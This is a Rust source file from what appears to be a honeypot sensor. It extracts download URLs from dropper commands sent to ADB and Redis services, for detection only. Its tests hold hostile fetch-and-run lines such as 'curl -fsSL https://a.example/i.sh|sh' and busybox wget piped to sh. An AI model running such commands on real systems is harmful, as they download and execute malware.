//! The download URLs in a dropper line, for services that receive shell commands outside a
//! login shell: ADB `shell:` streams, Redis values that become cron jobs, Redis module
//! `system.exec` calls.
//!
//! WHY here and this small: the shared shell emulation (`protocols/shell/`, being written on
//! another branch) will own command parsing for every shell; until then these services need only
//! the URLs a line would fetch, to emit `DownloadOffered` (the sensor never fetches them). Move
//! the callers to the shell module's extractor when it lands, and delete this file.
//!
//! Bounded: at most [`MAX_URLS`] URLs per text, each at most [`MAX_URL`] bytes; the scan is
//! linear in the input.

/// URLs reported per text.
pub const MAX_URLS: usize = 16;
/// Longest URL reported (longer ones are cut).
pub const MAX_URL: usize = 1024;

/// The tools that fetch, as a shell line names them.
const FETCHERS: &[&str] = &["wget", "curl", "tftp", "ftpget", "busybox", "python", "python3", "perl", "lwp-download"];

/// `(tool, url)` for every URL in `text` that follows a downloading tool in the same command
/// (`cd /tmp; wget http://x/a; curl -O http://x/b | sh`). A URL without a known tool before it
/// (for example inside `echo`) is still reported, with the tool `unknown`: in a dropper line a
/// URL is there to be fetched.
pub fn downloads(text: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for cmd in text.split([';', '|', '&', '\n', '`', '(', ')']) {
        let mut tool: Option<&str> = None;
        for word in cmd.split_whitespace() {
            let bare = word.trim_matches(['"', '\'']);
            let name = bare.rsplit('/').next().unwrap_or(bare);
            if matches!(tool, None | Some("busybox")) && FETCHERS.contains(&name) && !bare.contains("://") {
                tool = Some(name);
                continue;
            }
            if let Some(at) = bare.find("://") {
                let scheme = &bare[..at];
                if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ftp" | "tftp") {
                    continue;
                }
                let mut url = bare.to_string();
                if url.len() > MAX_URL {
                    let mut cut = MAX_URL;
                    while !url.is_char_boundary(cut) {
                        cut -= 1;
                    }
                    url.truncate(cut);
                }
                let t = tool.unwrap_or("unknown").to_string();
                if !out.iter().any(|(_, u)| *u == url) {
                    out.push((t, url));
                }
                if out.len() >= MAX_URLS {
                    return out;
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_after_fetchers_and_bare_ones() {
        let d = downloads("cd /data/local/tmp; wget http://203.0.113.7/x; chmod 777 x");
        assert_eq!(d, vec![("wget".into(), "http://203.0.113.7/x".into())]);
        let d = downloads("\n*/1 * * * * curl -fsSL https://a.example/i.sh|sh\n");
        assert_eq!(d, vec![("curl".into(), "https://a.example/i.sh".into())]);
        let d = downloads("/system/bin/busybox wget -O- 'http://x.example/b' | sh; echo ftp://y.example/z");
        assert_eq!(
            d,
            vec![("wget".into(), "http://x.example/b".into()), ("unknown".into(), "ftp://y.example/z".into())]
        );
        assert!(downloads("chmod 777 x; file:///etc/passwd").is_empty());
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0x5eed_d409_0000_0017, 20_000, 200, false) {
            let text = String::from_utf8_lossy(&b);
            let d = downloads(&text);
            assert!(d.len() <= MAX_URLS && d.iter().all(|(_, u)| u.len() <= MAX_URL));
        }
        let long = format!("wget http://{}", "é".repeat(2000));
        assert!(downloads(&long)[0].1.len() <= MAX_URL);
    }
}
